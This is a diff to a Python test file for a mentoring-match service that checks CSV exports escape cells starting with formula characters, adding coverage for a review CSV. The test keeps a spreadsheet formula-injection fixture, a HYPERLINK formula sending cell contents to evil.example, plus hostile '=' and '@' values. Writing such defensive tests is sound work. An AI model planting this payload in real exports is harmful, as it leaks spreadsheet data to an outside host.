@@ -10,7 +10,12 @@ import pytest
 from service.config import load_config
 from service.csv_safe import FORMULA_START, csv_text, safe_cell
 from service.matching import MatchProblem, Mentee, Mentor, match
-from service.matching.report import build_report, render_csv, render_introductions_csv
+from service.matching.report import (
+    build_report,
+    render_csv,
+    render_introductions_csv,
+    render_review_csv,
+)
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
@@ -46,7 +51,10 @@ def test_the_match_csvs_escape_a_hostile_department_and_name() -> None:
     for text in (
         render_csv(report, labels=labels),
         render_introductions_csv(problem, result, labels=labels),
+        render_review_csv(report, {1: ("=a@x.gov.uk", "@Ed"), 9: ("m@x.gov.uk", "=Alex")}),
     ):
         cells = _cells(text)
         assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
     assert f"'{HYPERLINK}" in _cells(render_csv(report, labels=labels))
+    review = _cells(render_review_csv(report, {1: ("a@x.gov.uk", "@Ed"), 9: ("m@x", "=Alex")}))
+    assert "'@Ed" in review and "'=Alex" in review
